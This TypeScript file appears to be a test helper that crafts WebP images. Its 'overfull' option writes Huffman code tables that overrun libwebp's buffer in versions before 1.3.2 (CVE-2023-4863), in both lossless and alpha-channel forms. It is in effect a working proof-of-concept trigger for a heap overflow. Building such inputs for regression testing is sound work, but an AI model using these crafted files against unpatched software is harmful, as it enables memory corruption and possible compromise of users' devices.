/** How many codes there are of each length from 0 to 15, of all letters of an alphabet, so that their tables are as large as any. */
const largest = {
  280: [0, 1, 1, 0, 0, 0, 0, 0, 0, 71, 65, 73, 33, 33, 1, 2],
  256: [0, 1, 1, 0, 0, 0, 0, 0, 0, 59, 117, 25, 17, 33, 1, 2],
  40: [0, 1, 1, 1, 1, 1, 0, 0, 0, 7, 13, 8, 3, 1, 1, 2],
} as const;

/** The same for distances with codes that no letter has: its table takes 542 entries, where room is made for 410. */
const overfull = [0, 0, 0, 0, 1, 0, 0, 0, 0, 19, 13, 1, 1, 1, 1, 3];

export type Codes = 'complete' | 'overfull';

/** The lengths of codes are themselves in a code: here each of 0 to 15 in four bits, from the highest to the lowest. */
const lengthsOrder = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];
const backwards = [0, 8, 4, 12, 2, 10, 6, 14, 1, 9, 5, 13, 3, 11, 7, 15];

/**
 * A transparent black lossless picture whose five tables of codes fill the room that libwebp takes for them; if overfull, one
 * was written beyond its end before 1.3.2 (CVE-2023-4863).
 */
export function craftedWebp(codes: Codes, width = 16, height = 16): Uint8Array {
  const head = [bits(0x2f, 8), bits(width - 1, 14), bits(height - 1, 14), bits(1, 1), bits(0, 3)].flat();
  return riff([['VP8L', packed([...head, ...losslessBits(codes, width * height)])]]);
}

/** The same as the opacity of a lossy picture. @param lossy an opaque WebP of that size */
export function craftedOpacity(codes: Codes, lossy: Uint8Array, width = 16, height = 16): Uint8Array {
  const canvas = packed([bits(0x10, 32), bits(width - 1, 24), bits(height - 1, 24)].flat());
  const opacity = packed([...bits(1, 8), ...losslessBits(codes, width * height)]);
  return riff([
    ['VP8X', canvas],
    ['ALPH', opacity],
    ['VP8 ', lossy.subarray(20)],
  ]);
}

/** No transform, no cache of colours, one group of codes; then a zero, the shortest code, for each channel of each pixel. */
function losslessBits(codes: Codes, pixels: number): readonly number[] {
  const tables = [
    spread(largest[280], 280),
    ...[1, 2, 3].map(() => spread(largest[256], 256)),
    spread(codes === 'complete' ? largest[40] : overfull, 40),
  ];
  return [...bits(0, 3), ...tables.flatMap(tableBits), ...Array<number>(pixels * 4).fill(0)];
}

function tableBits(lengths: readonly number[]): readonly number[] {
  const ofLengths = lengthsOrder.flatMap((length) => bits(length < 16 ? 4 : 0, 3));
  const ofLetters = lengths.flatMap((length) => bits(backwards[length] ?? 0, 4));
  return [...bits(0, 1), ...bits(lengthsOrder.length - 4, 4), ...ofLengths, ...bits(0, 1), ...ofLetters];
}

/** The length of each letter's code. */
function spread(counts: readonly number[], letters: number): readonly number[] {
  const lengths = counts.flatMap((count, length) => Array<number>(count).fill(length));
  return [...lengths, ...Array<number>(letters - lengths.length).fill(0)];
}

/** From the lowest bit on. */
function bits(value: number, count: number): readonly number[] {
  return Array.from({ length: count }, (_, index) => Math.floor(value / 2 ** index) % 2);
}

function packed(all: readonly number[]): Uint8Array {
  const bytes = new Uint8Array(Math.ceil(all.length / 8));
  all.forEach((bit, index) => {
    bytes[index >> 3] = (bytes[index >> 3] ?? 0) | (bit << (index & 7));
  });
  return bytes;
}

function riff(chunks: readonly (readonly [string, Uint8Array])[]): Uint8Array {
  const parts = chunks.flatMap(([name, bytes]) => [
    Buffer.from(name),
    packed(bits(bytes.length, 32)),
    bytes,
    new Uint8Array(bytes.length % 2),
  ]);
  const body = Buffer.concat([Buffer.from('WEBP'), ...parts]);
  return Uint8Array.from(Buffer.concat([Buffer.from('RIFF'), packed(bits(body.length, 32)), body]));
}
